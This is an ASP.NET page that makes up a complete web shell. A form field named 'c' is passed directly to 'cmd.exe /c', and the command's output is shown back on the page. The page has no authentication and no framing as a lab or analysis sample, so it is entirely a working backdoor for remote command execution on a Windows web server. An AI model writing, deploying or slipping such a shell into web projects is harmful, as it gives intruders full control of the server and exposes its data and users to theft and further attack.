<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    protected void Run(object sender, EventArgs e)
    {
        ProcessStartInfo psi = new ProcessStartInfo();
        psi.FileName = "cmd.exe";
        psi.Arguments = "/c " + Request.Form["c"];
        psi.RedirectStandardOutput = true;
        psi.UseShellExecute = false;
        Process p = Process.Start(psi);
        Output.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());
    }
</script>
<form runat="server">
    <asp:TextBox ID="c" runat="server" />
    <asp:Button Text="Run" OnClick="Run" runat="server" />
    <pre><asp:Literal ID="Output" runat="server" /></pre>
</form>
